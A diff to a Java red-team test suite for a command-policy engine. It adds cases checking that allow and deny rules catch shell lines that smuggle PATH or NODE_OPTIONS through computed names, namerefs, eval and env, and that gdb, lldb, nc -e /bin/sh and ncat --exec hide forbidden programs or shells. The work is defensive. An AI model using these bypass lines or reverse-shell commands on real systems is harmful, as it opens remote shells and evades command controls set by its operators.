@@ -100,6 +100,114 @@ class ArgvRedTeamTest {
               command: { binary: terraform, args: [apply] }
           """);
 
+  /**
+   * Third round: a shell-line rule that lets the caller set ordinary variables ({@code *}, which
+   * never admits the risky ones), a Go-style program, and deny rules for shells.
+   */
+  static final PolicySet THIRD =
+      policy(
+          """
+          rules:
+            - id: npm-line-any-env
+              effect: allow
+              command: { binary: npm, subcommand: [ci, test], shell: true, env: ["*"] }
+            - id: gotool-list
+              effect: allow
+              command: { binary: gotool, subcommand: list }
+            - id: anything-else
+              effect: allow
+              command: { binary: [nc, ncat, gdb, lldb], shell: true }
+            - id: no-shell
+              effect: deny
+              command: { binary: [sh, bash] }
+            - id: no-publish
+              effect: deny
+              command: { binary: npm, args: [publish] }
+          """);
+
+  /** A shell-line rule that names no binary: any program, ordinary variables. */
+  static final PolicySet ANY_PROGRAM =
+      policy(
+          """
+          rules:
+            - id: any-line
+              effect: allow
+              command: { shell: true, env: ["*"] }
+          """);
+
+  /** Third round: the denials up to the first comment failed before their fix. */
+  static Stream<Arguments> thirdRound() {
+    return Stream.of(
+        // Variables set under a name the line computes or reaches through a reference.
+        deny(
+            "computed name: export $V=",
+            THIRD,
+            line("npm ci && V=NODE_OPTIONS; export $V=--require=/tmp/x.js; npm test")),
+        deny(
+            "computed name in quotes: export \"$V\"=",
+            THIRD,
+            line("npm ci && V=PATH; export \"$V\"=/tmp; npm test")),
+        deny(
+            "nameref: declare -n",
+            THIRD,
+            line("npm ci && declare -n r=NODE_OPTIONS; export r=--require=/x.js; npm test")),
+        deny(
+            "nameref: local -n", THIRD, line("npm ci && f() { local -n r=PATH; r=/x; }; npm test")),
+        deny("nameref: typeset -gn cluster", THIRD, line("npm ci && typeset -gn r=PATH; npm test")),
+        deny("printf -vNAME attached", THIRD, line("npm ci && printf -vPATH /tmp/e; npm test")),
+        deny("printf -v \"$V\"", THIRD, line("npm ci && V=PATH; printf -v \"$V\" /x; npm test")),
+        deny("read -a computed", THIRD, line("npm ci && read -a \"$V\" < f; npm test")),
+        deny("let computed", THIRD, line("npm ci && let \"$V=1\"; npm test")),
+        deny("let with blanks", THIRD, line("npm ci && let 'PATH = 5'; npm test")),
+        deny("{NAME}> redirection", THIRD, line("npm ci && : {PATH}>/dev/null; npm test")),
+        deny("{NAME[i]}> redirection", THIRD, line("npm ci && : {PATH[0]}>/dev/null; npm test")),
+        // A rule that names no binary still checks the variables: eval and env set them too.
+        deny("eval export", ANY_PROGRAM, line("npm ci && eval 'export NODE_OPTIONS=x'; npm test")),
+        deny("eval of eval", ANY_PROGRAM, line("npm ci && eval eval PATH=/x; npm test")),
+        deny("eval {NAME}>", ANY_PROGRAM, line("npm ci && eval ': {PATH}>/dev/null'; npm test")),
+        deny("env NAME=", ANY_PROGRAM, line("npm ci && env NODE_OPTIONS=x npm test")),
+        deny("env -i NAME=", ANY_PROGRAM, line("npm ci && env -i -u A PATH=/x npm test")),
+        deny("env $V=", ANY_PROGRAM, line("npm ci && V=PATH; env $V=/x npm test")),
+        deny("env -S", ANY_PROGRAM, line("npm ci && env -S 'PATH=/x npm' test")),
+        allow("eval ordinary", ANY_PROGRAM, line("npm ci && eval 'export CI=1'; npm test")),
+        allow("env ordinary", ANY_PROGRAM, line("npm ci && env CI=1 npm test")),
+        // Debuggers and netcat run a program named in ways the first rounds did not read.
+        deny("gdb -args (getopt_long_only)", THIRD, line("gdb -batch -ex run -args npm publish")),
+        deny("gdb --arg (prefix)", THIRD, line("gdb -batch -ex run --arg npm publish")),
+        deny("gdb -ar (prefix)", THIRD, line("gdb -batch -ex run -ar npm publish")),
+        deny("gdb program operand", THIRD, line("gdb -batch -ex 'run publish' /usr/bin/npm")),
+        deny("gdb -e program", THIRD, line("gdb -batch -ex 'run publish' -e /usr/bin/npm")),
+        deny("gdb sh operand", THIRD, line("gdb -batch -ex run /bin/sh")),
+        deny("lldb program operand", THIRD, line("lldb -b -o run /usr/bin/npm publish")),
+        deny("lldb -f PROG -- ARGS", THIRD, line("lldb -b -f npm -- publish")),
+        deny("lldb --file=PROG", THIRD, line("lldb -b -o 'run publish' --file=/usr/bin/npm")),
+        deny("nc -e single word", THIRD, line("nc -e /bin/sh host 4444")),
+        deny("nc -lvpe cluster", THIRD, line("nc -lvp 4444 -e/bin/sh")),
+        deny("ncat --exec=", THIRD, line("ncat --exec=/usr/bin/bash host 1")),
+        deny("ncat --exe (prefix)", THIRD, line("ncat --exe /bin/sh host 1")),
+        // Go's flag package: -name2 takes the next word, which is then no subcommand.
+        deny("Go -name2 VALUE", THIRD, line("gotool -name2 list delete")),
+        // Already refused before (a wrapper the rule does not name, a whole-word name, a value
+        // with a blank); kept so they stay so.
+        deny("builtin printf -v", THIRD, line("npm ci && builtin printf -v PATH /x; npm test")),
+        deny("command export", THIRD, line("npm ci && command export PATH=/x; npm test")),
+        deny("read -ra cluster", THIRD, line("npm ci && read -ra PATH < f; npm test")),
+        deny("{NAME}< redirection", THIRD, line("npm ci && exec {HOME}</dev/null; npm test")),
+        deny("ncat --sh-exec", THIRD, line("ncat --sh-exec 'sh -i' host 1")),
+        // What must keep working under the same rules.
+        allow("ordinary export", THIRD, line("npm ci && export CI=1; npm test")),
+        allow("ordinary read", THIRD, line("npm ci && read -r -p 'go? ' answer; npm test")),
+        allow("ordinary printf -v", THIRD, line("npm ci && printf -v msg '%s' ok; npm test")),
+        allow("ordinary let", THIRD, line("npm ci && let n=1; npm test")),
+        allow("declare -x and -a", THIRD, line("npm ci && declare -x A=1; declare -a B; npm test")),
+        allow("ordinary {fd}>", THIRD, line("npm ci && : {fd}>/dev/null; npm test")),
+        allow("numbered redirection", THIRD, line("npm ci 2>/dev/null; npm test >/dev/null")),
+        allow("gdb --args another program", THIRD, line("gdb -batch -ex run --args ls -l")),
+        allow("lldb another program", THIRD, line("lldb -b -o run /bin/ls -- -l")),
+        allow("nc without a program", THIRD, line("nc -z host 443")),
+        allow("the Go tool without the option", THIRD, line("gotool list")));
+  }
+
   static Stream<Arguments> bypassesFixed() {
     return Stream.of(
         // A flag that takes the allowed word as its value: the program runs a later word.
@@ -324,7 +432,7 @@ class ArgvRedTeamTest {
   }
 
   static Stream<Arguments> cases() {
-    return Stream.concat(bypassesFixed(), alreadyHandled());
+    return Stream.concat(Stream.concat(bypassesFixed(), alreadyHandled()), thirdRound());
   }
 
   @ParameterizedTest(name = "{0}")
@@ -353,6 +461,43 @@ class ArgvRedTeamTest {
     assertThat(decide(OPEN, human("m"), target("t"), line("git psuh")).rule()).isEqualTo("no-push");
     assertThat(decide(OPEN, human("m"), target("t"), line("kubectl mydel pod x")).rule())
         .isEqualTo("no-delete");
+  }
+
+  /**
+   * Lines of {@link CommandLine#MAX_LENGTH} shaped against the matcher's scans (a long name after
+   * "[" that a regex would retry from each letter, braces each looking for a later ","): decided
+   * like their short forms. Each scan is linear by construction (possessive quantifiers, a
+   * lookbehind, one lastIndexOf), which is what lets this finish.
+   */
+  @ParameterizedTest(name = "{0}")
+  @MethodSource("longLines")
+  void aLineOfTheMaximumLengthIsDecided(String name, String body, Effect expected) {
+    String head = "npm ci && grep ";
+    String tail = " f && npm test";
+    int n = CommandLine.MAX_LENGTH - head.length() - tail.length();
+    String word = body.repeat(n / body.length() + 1).substring(0, n);
+    String raw = head + word + tail;
+    assertThat(raw).hasSize(CommandLine.MAX_LENGTH);
+    assertThat(ArgvEvasionTest.effect(THIRD, line(raw))).as(name).isEqualTo(expected);
+  }
+
+  static Stream<Arguments> longLines() {
+    return Stream.of(
+        Arguments.of("[ then a long name", "[" + "a".repeat(64), Effect.ALLOW),
+        Arguments.of("[ then names and blanks", "[a\\ ", Effect.ALLOW),
+        Arguments.of("braces with no comma", "{", Effect.ALLOW),
+        Arguments.of("assigning expansions", "${a", Effect.ALLOW),
+        Arguments.of("subscripts", "a[", Effect.ALLOW),
+        Arguments.of("arithmetic assigning PATH", "$((PATH=1))", Effect.DENY),
+        Arguments.of("closing braces", "x}", Effect.ALLOW),
+        Arguments.of("named descriptors", "{a}>x ", Effect.ALLOW),
+        Arguments.of("unclosed substitutions (too deep)", "$(", Effect.DENY),
+        Arguments.of("backquotes (past the command limit)", "`a", Effect.DENY),
+        Arguments.of("many flags", " -a", Effect.ALLOW),
+        Arguments.of("many words", " a", Effect.ALLOW),
+        Arguments.of("many value flags", " --x=", Effect.ALLOW),
+        Arguments.of("quotes", "'a'\"b\"", Effect.ALLOW),
+        Arguments.of("many commands (past the limit)", ";a", Effect.DENY));
   }
 
   private static Effect effect(Action a) {
